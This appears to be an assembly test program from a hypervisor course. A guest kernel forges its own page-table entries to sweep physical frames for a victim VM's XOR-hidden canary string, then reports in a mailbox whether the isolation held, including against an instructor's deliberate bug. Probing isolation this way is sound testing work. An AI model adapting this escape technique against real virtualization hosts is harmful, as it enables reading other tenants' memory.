; forge-pte.asm: escape attempt E2 (virtualization.md 2.12). A small guest
; kernel that builds its own page tables, turns paging on, and then points
; a 64 KiB window (linear 80000h-8FFFFh, segment 8000h: the 16 pages of
; PDE 8) at one block of 16 frames after another:
;   frames 000h-11Fh   every guest-physical frame 0-255, and 32 beyond 1 MiB
;   frames FF0h-FFFh   the top of the 20-bit frame field (16 MiB)
; It scans each window for the string SECRET-42, which a victim VM keeps
; at its guest-physical 0600h. The needle is kept XOR 80h in this program,
; so the program's own memory never holds the plain string.
;
; Contained when every frame number goes through this VM's own P2M
; (shadow paging) or nested table: it sees only its own RAM, the shared
; ROM page and the open-bus frame (FFh everywhere). Under nested paging a
; guest-physical address beyond the VM's 1 MiB (+ the A20 wrap) makes the
; hypervisor stop the VM: contained too, before the scan ends.
;
; Loaded as a .COM at 1000:0100 (CS=DS=ES=SS=1000h, SP=FFFEh, IF=0).
; Mailbox, written at the end (0000:0500):
;   0000:0500  10 bytes of text: "not found" (0-terminated), or "FOUND"
;   0000:0510  word: the frame number (guest PTE frame) where it was
;              found, FFFFh when not found
;   0000:0512  word: blocks of 16 frames scanned to the end (19 = all)
; Expected outcome (contained, shadow paging): stops at HLT with
;   0000:0500 = "not found", 0000:0510 = FFFFh, 0000:0512 = 0013h.
; With the instructor's bug "skip P2M translation of guest PTE frames" on
; (shadow paging): "FOUND" and the frame in 0000:0510.

bits 16
cpu 8086
org 0x100

DIR_SEG     equ 0x2000      ; page directory at 20000h (frame 20h)
DIR_FRAME   equ 0x20
TABLE_SEG   equ 0x2100      ; page tables in frames 21h-30h
TABLE_FRAME equ 0x21
PTE_P       equ 1
PTE_W       equ 2
PTE_U       equ 4
CR0_PG      equ 0x8000
WINDOW_PAGE equ 0x80        ; pages 80h-8Fh: linear 80000h-8FFFFh
WINDOW_SEG  equ 0x8000
LAST_LOW    equ 18          ; blocks 0-17: frames 000h-11Fh
TOP_BLOCK   equ 0xff        ; then block FFh: frames FF0h-FFFh
MAILBOX     equ 0x500

start:
        xor ax, ax              ; the mailbox says "scanning" until the end
        mov es, ax              ; (written before paging is on, so it is in
        mov di, MAILBOX         ; this VM's own frame 0 from the start)
        mov si, text_scanning
        mov cx, 10
        cld
        rep movsb
        call build_identity_map
        cpu 486
        mov ax, DIR_FRAME
        mov cr3, eax            ; CR3 = the directory's frame
        mov ax, CR0_PG
        mov cr0, eax            ; paging on
        cpu 8086
        mov word [found_frame], 0xffff
        mov word [blocks], 0
        mov word [cur_block], 0
block_loop:
        call map_window
        call scan_window
        jc report               ; CF = 1: found
        inc word [blocks]
        mov ax, [cur_block]
        cmp ax, TOP_BLOCK
        je report
        inc ax
        cmp ax, LAST_LOW
        jb set_block
        mov ax, TOP_BLOCK
set_block:
        mov [cur_block], ax
        jmp block_loop

report:
        xor ax, ax
        mov es, ax
        mov di, MAILBOX
        mov si, text_not_found
        cmp word [found_frame], 0xffff
        je write_text
        mov si, text_found
write_text:
        mov cx, 10
        cld
        rep movsb
        mov ax, [found_frame]
        mov [es:MAILBOX + 0x10], ax
        mov ax, [blocks]
        mov [es:MAILBOX + 0x12], ax
        hlt

; ---- map_window: PTEs of pages 80h-8Fh := frames cur_block*16 + 0..15 ---
; then reload CR3, which flushes the TLB (the old window is forgotten).
map_window:
        mov bx, [cur_block]
        mov cl, 4
        shl bx, cl              ; first frame of the block
        mov ax, WINDOW_PAGE
        mov dx, PTE_P | PTE_W | PTE_U
map_loop:
        call set_pte
        inc ax
        inc bx
        cmp ax, WINDOW_PAGE + 16
        jb map_loop
        cpu 486
        mov eax, cr3
        mov cr3, eax
        cpu 8086
        ret

; ---- scan_window: CF = 1 and found_frame set if SECRET-42 is in it -------
scan_window:
        push es
        mov ax, WINDOW_SEG
        mov es, ax
        xor di, di
        mov cx, 0xfff8          ; start positions 0-FFF7h: the 9 bytes fit
        cld
scan_loop:
        mov al, 'S'
        repne scasb             ; DI = one past the next 'S'
        jne not_here
        push cx
        push di
        mov si, needle_rest
        mov cx, 8
compare_loop:
        mov al, [es:di]
        xor al, 0x80
        cmp al, [si]
        jne mismatch
        inc di
        inc si
        loop compare_loop
        pop di                  ; found: the 'S' is at ES:DI-1
        pop cx
        dec di
        mov cl, 12
        shr di, cl              ; its page in the window
        mov ax, [cur_block]
        mov cl, 4
        shl ax, cl
        add ax, di
        mov [found_frame], ax
        pop es
        stc
        ret
mismatch:
        pop di
        pop cx
        jcxz not_here
        jmp scan_loop
not_here:
        pop es
        clc
        ret

; ---- build_identity_map (as in paging-identity.asm) ---------------------
; PDE d (d = 0..15) -> table frame 21h+d; page n -> frame n, n = 0..255.
build_identity_map:
        mov ax, DIR_SEG
        mov es, ax
        xor di, di
        xor ax, ax
        mov cx, 2048
        cld
        rep stosw
        xor di, di
        mov bx, TABLE_FRAME
dir_loop:
        mov ax, bx
        mov cl, 12
        shl ax, cl
        or al, PTE_P | PTE_W | PTE_U
        stosw
        mov ax, bx
        mov cl, 4
        shr ax, cl
        stosw
        inc bx
        cmp bx, TABLE_FRAME + 16
        jb dir_loop
        push cs
        pop es
        xor ax, ax
        mov dx, PTE_P | PTE_W | PTE_U
identity_loop:
        mov bx, ax
        call set_pte
        inc ax
        cmp ax, 256
        jb identity_loop
        ret

; ---- set_pte: page AX -> frame BX, flag bits DX; keeps every register ---
set_pte:
        push ax
        push cx
        push di
        push es
        mov di, ax
        mov cl, 4
        shr ax, cl
        mov cl, 8
        shl ax, cl
        add ax, TABLE_SEG
        mov es, ax              ; ES = the table of PDE n >> 4
        and di, 0x000f
        shl di, 1
        shl di, 1               ; DI = (n & 0Fh) * 4
        mov ax, bx
        mov cl, 12
        shl ax, cl
        or ax, dx
        stosw                   ; low word: frame bits 0-3, flags
        mov ax, bx
        mov cl, 4
        shr ax, cl
        stosw                   ; high word: frame bits 4-15
        pop es
        pop di
        pop cx
        pop ax
        ret

; "ECRET-42" XOR 80h: the rest of the needle after its 'S'.
needle_rest:    db 0xc5, 0xc3, 0xd2, 0xc5, 0xd4, 0xad, 0xb4, 0xb2
text_not_found: db 'not found', 0
text_found:     db 'FOUND', 0, 0, 0, 0, 0
text_scanning:  db 'scanning', 0, 0
cur_block:      dw 0
blocks:         dw 0
found_frame:    dw 0
